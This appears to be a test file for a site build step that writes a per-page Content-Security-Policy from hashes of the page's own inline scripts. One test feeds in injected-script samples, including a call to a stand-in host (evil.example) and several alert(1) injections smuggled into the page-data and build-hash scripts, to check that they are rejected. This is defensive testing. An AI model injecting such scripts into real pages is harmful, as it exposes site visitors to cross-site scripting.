/** Each built page's own policy (scripts/build/page-policy.ts), worked out from the page as written. */
import { describe, expect, it } from 'vitest';
import { metaPoliciesIn, withPagePolicy } from '../../scripts/build/page-policy';
import { inlineScripts, scriptHash } from '../../scripts/postbuild/csp';
import { parseHtml } from '../../scripts/postbuild/html-tree';
import { unallowedScripts } from '../../scripts/postbuild/security-headers';

const inputs = { embedUrls: ['https://www.openstreetmap.org/export/embed.html'], env: {}, basePath: '' };
/** The two inline scripts the build writes: React Router's page data and vite-react-ssg's build hash. */
const DATA = String.raw`window.__staticRouterHydrationData = JSON.parse("{\"loaderData\":{\"0\":\"\u003c/script\u003e\"}}");`;
const HASH = "window.__VITE_REACT_SSG_HASH__ = 'sssg23twde'";
const page = (head: string, body = '') =>
  `<!DOCTYPE html><html><head>${head}</head><body><div id="root">${body}</div></body></html>`;

describe('withPagePolicy', () => {
  it("puts the policy of the page's own inline scripts right after its <meta charset>", () => {
    const html = page(
      '<title>A</title><meta data-rh="true" charset="UTF-8"><meta name="description" content="d">',
      `<script>${DATA}</script><script>${HASH}</script>`,
    );
    const made = withPagePolicy(html, inputs);
    const hashes = [scriptHash(DATA), scriptHash(HASH)];
    expect(made.policy.scriptHashes).toEqual([...hashes].sort());
    const start = made.html.indexOf('charset="UTF-8">') + 'charset="UTF-8">'.length;
    expect(made.html.slice(start)).toMatch(
      /^<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval' 'sha256-[^"]+"><meta http-equiv="Content-Security-Policy" content="script-src \*:\*\/assets\/ [^"]+"><meta name="referrer" content="strict-origin-when-cross-origin"><meta name="description"/,
    );
    for (const hash of hashes) expect(made.html.split(hash)).toHaveLength(3);
    expect(made.html.replace(/<meta (http-equiv|name="referrer")[^>]*>/g, '')).toBe(html);
  });

  it('reads the page once: its scripts and policies are those of the written page, parsed again', () => {
    const html = page(
      '<title>A &amp; "B"</title><meta charset="UTF-8"><style>p{}</style>',
      `<main>M</main><script>${DATA}</script><script>${HASH}</script>`,
    );
    const made = withPagePolicy(html, { ...inputs, basePath: '/a "b"&<c>' });
    expect(made.inlineScripts).toEqual(inlineScripts(made.html));
    expect(made.pagePolicies).toEqual(metaPoliciesIn(parseHtml(made.html)));
    expect(made.pagePolicies).toEqual(made.policy.page.csp);
    expect(unallowedScripts([{ route: '/', ...made }])).toEqual([]);
    expect(made.document.childNodes.length).toBeGreaterThan(0);
  });

  it('refuses a page without <meta charset>, or with a script before it', () => {
    expect(() => withPagePolicy(page('<title>A</title>'), inputs)).toThrow(/no <meta charset>/);
    // HTML wants it within the first 1024 bytes, where the browser looks for it.
    const late = page(`<title>${'A'.repeat(1000)}</title><meta charset="UTF-8">`);
    expect(() => withPagePolicy(late, inputs)).toThrow(
      'The page has no <meta charset> in its <head> within its first 1024 bytes',
    );
    expect(() => withPagePolicy(page('<script>x()</script><meta charset="UTF-8">'), inputs)).toThrow(
      /a <script> before its <meta charset>/,
    );
  });

  it('refuses a page with an inline script the build does not write, naming it', () => {
    const charset = '<meta charset="UTF-8">';
    for (const foreign of [
      'window.x = 1',
      `${HASH}; fetch("//evil.example")`,
      'window.__staticRouterHydrationData = JSON.parse("{}"); alert(1);',
      'window.__staticRouterHydrationData = JSON.parse("{}" + alert(1));',
      'window.__staticRouterHydrationData = JSON.parse(alert(1));',
      "window.__VITE_REACT_SSG_HASH__ = 'a' + alert(1)",
    ]) {
      expect(
        () => withPagePolicy(page(charset, `<script>${DATA}</script><script>${foreign}</script>`), inputs),
        foreign,
      ).toThrow(
        `The page has an inline script the build does not write (${JSON.stringify(foreign.length > 80 ? `${foreign.slice(0, 77)}...` : foreign)}). Only vite-react-ssg's build hash and React Router's page data may be inline`,
      );
    }
    // A module script, an SVG script and one with a JavaScript type are scripts too; data blocks
    // (JSON-LD) and scripts loaded from a file are not inline scripts.
    for (const foreign of [
      '<script type="module">import("/x.js")</script>',
      '<script type="text/javascript">x()</script>',
      '<svg><script>x()</script></svg>',
    ])
      expect(() => withPagePolicy(page(charset, foreign), inputs), foreign).toThrow(
        /inline script the build does not write/,
      );
    expect(
      withPagePolicy(
        page(
          charset,
          '<script type="application/ld+json">{"a":1}</script><script type="module" src="/assets/a.js"></script>',
        ),
        inputs,
      ).policy.scriptHashes,
    ).toEqual([]);
  });
});
